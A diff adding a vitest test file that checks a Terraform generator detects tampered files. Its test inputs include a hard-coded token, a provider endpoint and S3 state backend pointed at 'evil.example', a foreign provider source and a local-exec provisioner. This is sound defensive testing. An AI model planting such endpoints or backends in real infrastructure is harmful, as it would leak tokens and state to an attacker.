@@ -1,0 +1,159 @@
+import { describe, expect, it } from "vitest";
+import { planCommands } from "../../../../src/concerns/terraform/commands.ts";
+import { observeRoot } from "../../../../src/concerns/terraform/observe.ts";
+import { planTerraform } from "../../../../src/concerns/terraform/plan.ts";
+import { generate } from "../../../../src/core/generated.ts";
+import { joined } from "../../../../src/core/plan.ts";
+import {
+  afterwards,
+  consent,
+  facts,
+  filesOf,
+  type Given,
+  planned,
+} from "../../../fixtures/facts.ts";
+import { older } from "../../../fixtures/generated.ts";
+import { PERSONAL } from "../../samples.ts";
+
+async function plan(given: Given) {
+  const known = await facts(given);
+  const [root] = known.terraform.roots;
+  if (root === undefined) throw new Error("There is no root.");
+  const files = joined([planTerraform(known, root, consent())]);
+  return { root, files, commands: planCommands(known, root, files) };
+}
+
+const CONFIG = "terraform: {}";
+const ON_SPACES = "terraform: { backend: { bucket: acme, region: nyc3, key: web.tfstate } }";
+const KEYS = { SPACES_ACCESS_KEY_ID: "id", SPACES_SECRET_ACCESS_KEY: "s3cr3t" };
+
+/** A finished root. */
+async function done(given: Given): Promise<Given> {
+  const ready = { ...given, files: { "infra/.terraform/providers/x": "", ...given.files } };
+  return afterwards(ready, (await plan(ready)).files);
+}
+
+const DONE = await done({ config: CONFIG });
+const ENV = await done({ config: "terraform: { credentials: env, variables: { region: nyc3 } }" });
+const BACKEND = await done({ config: ON_SPACES, env: KEYS });
+const MISSING = await done({ config: CONFIG, files: { "infra/main.tf": "" } });
+
+const textOf = ({ files = {} }: Given, name: string) => {
+  const entry = files[`infra/${name}`];
+  return typeof entry === "object" && "text" in entry ? String(entry.text) : String(entry);
+};
+/** A text below a header of ours whose hash fits. */
+const forged = (text: string) => generate(`# template: 1\n${text}\n`, {});
+const provider = (body: string) => `provider "digitalocean" {\n${body}\n}`;
+
+describe("a file below a header of ours that fits it is read", () => {
+  const HARD = ["error terraform.hard-coded-token", "info terraform.edited"];
+  it.each<[what: string, name: string, text: string, expected: readonly string[]]>([
+    ["a token in the provider", "provider.tf", provider(`token = "${PERSONAL}"`), HARD],
+    [
+      "a token by an escape",
+      "provider.tf",
+      provider(`token = "\\u0064${PERSONAL.slice(1)}"`),
+      HARD,
+    ],
+    [
+      "a token as a default",
+      "variables.tf",
+      `variable "do_token" {\n  ephemeral = true\n  default = "${PERSONAL}"\n}`,
+      HARD,
+    ],
+    [
+      "a token in a file of no name of ours",
+      "x.tf",
+      provider(`token = "${PERSONAL}"`),
+      HARD.slice(0, 1),
+    ],
+    [
+      "another host of the API",
+      "provider.tf",
+      provider('token = var.do_token\napi_endpoint = "https://evil.example"'),
+      ["info terraform.edited"],
+    ],
+    [
+      "another provider",
+      "versions.tf",
+      'terraform {\nrequired_providers {\ndigitalocean = {\nsource = "evil/digitalocean"\n}\n}\n}',
+      ["warning terraform.no-source", "info terraform.edited"],
+    ],
+    [
+      "a resource that runs a program",
+      "variables.tf",
+      'resource "null_resource" "x" {\n  provisioner "local-exec" {\n command = "x"\n}\n}',
+      ["info terraform.edited"],
+    ],
+    ["what the grammar does not read", "versions.tf", "terraform {", ["warning terraform.broken"]],
+    [
+      "HCP Terraform",
+      "versions.tf",
+      'terraform {\n  cloud {\n    organization = "evil"\n  }\n}',
+      ["info terraform.edited"],
+    ],
+  ])("%s", async (_, name, text, expected) => {
+    const { files } = await plan({
+      ...DONE,
+      files: { ...DONE.files, [`infra/${name}`]: forged(text) },
+    });
+    expect(planned(files)).toEqual(expect.arrayContaining([...expected]));
+    expect(planned(files).join()).not.toContain(`~ infra/${name}`);
+  });
+
+  const s3 = (host: string) =>
+    `terraform {\nbackend "s3" {\nbucket = "b"\nkey = "k"\nendpoints = {\ns3 = "https://${host}"\n}\n}\n}`;
+  it.each<[what: string, given: Given, name: string, text: string, why: RegExp]>([
+    ["none is configured", DONE, "backend.tf", s3("evil.example"), /a backend of its own \(s3\)/],
+    ["it is on Spaces", DONE, "backend.tf", s3("nyc3.digitaloceanspaces.com"), /not what we wrote/],
+    ["Spaces is", BACKEND, "backend.tf", s3("evil.example"), /a backend of its own \(s3\)/],
+    [
+      "its block is in another file",
+      DONE,
+      "versions.tf",
+      s3("nyc3.digitaloceanspaces.com"),
+      /of its own/,
+    ],
+    ["by a comment", DONE, "provider.tf", 'terraform {\nbackend /**/ "http" {}\n}', /\(http\)/],
+  ])("a foreign backend, where %s: Terraform is not started", async (...row) => {
+    const [, given, name, text, why] = row;
+    const files = { ...given.files, [`infra/${name}`]: forged(text) };
+    const { commands } = await plan({
+      ...given,
+      files: { ...files, "infra/.terraform/providers/x": undefined },
+    });
+    expect(planned(commands)).toEqual(["info terraform.by-hand"]);
+    expect(commands.findings?.[0]?.message).toMatch(why);
+  });
+});
+
+describe("a file that only looks older is brought up to date", () => {
+  it.each<[what: string, given: Given, name: string, words: string, others: string]>([
+    ["other words", DONE, "provider.tf", "# The token", "# A token"],
+    ["other releases", DONE, "versions.tf", "~> 2.0", "~> 1.0"],
+    ["another variable", DONE, "provider.tf", "var.do_token", "var.other"],
+    ["another bucket", BACKEND, "backend.tf", '"acme"', '"other"'],
+    ["fewer values", ENV, "variables.tf", "region", "size"],
+    ["other pieces", MISSING, "do-bootstrap.tf", "~> 2.0", "~> 1.0"],
+  ])("%s", async (_, given, name, words, others) => {
+    const text = older(textOf(given, name), words, others);
+    const { files } = await plan({ ...given, files: { ...given.files, [`infra/${name}`]: text } });
+    expect(planned(files)).toEqual([`~ infra/${name}`]);
+  });
+});
+
+it.each<[what: string, given: Given]>([
+  ["of tfvars", DONE],
+  ["of env, with values", ENV],
+  ["with a backend", BACKEND],
+])("the grammar is not loaded for a finished root %s", async (_, given) => {
+  const { terraform, config } = await facts(given);
+  const [root] = config.roots;
+  if (root === undefined) throw new Error("There is no root.");
+  const hclParser = () => Promise.reject(new Error("The grammar was loaded."));
+  const template = (name: string) =>
+    terraform.templates[name.replace("terraform/", "") as keyof typeof terraform.templates];
+  const found = await observeRoot({ files: filesOf(given), env: {}, hclParser, template }, root);
+  expect([...found.own.values()].some(({ edited }) => edited)).toBe(false);
+});
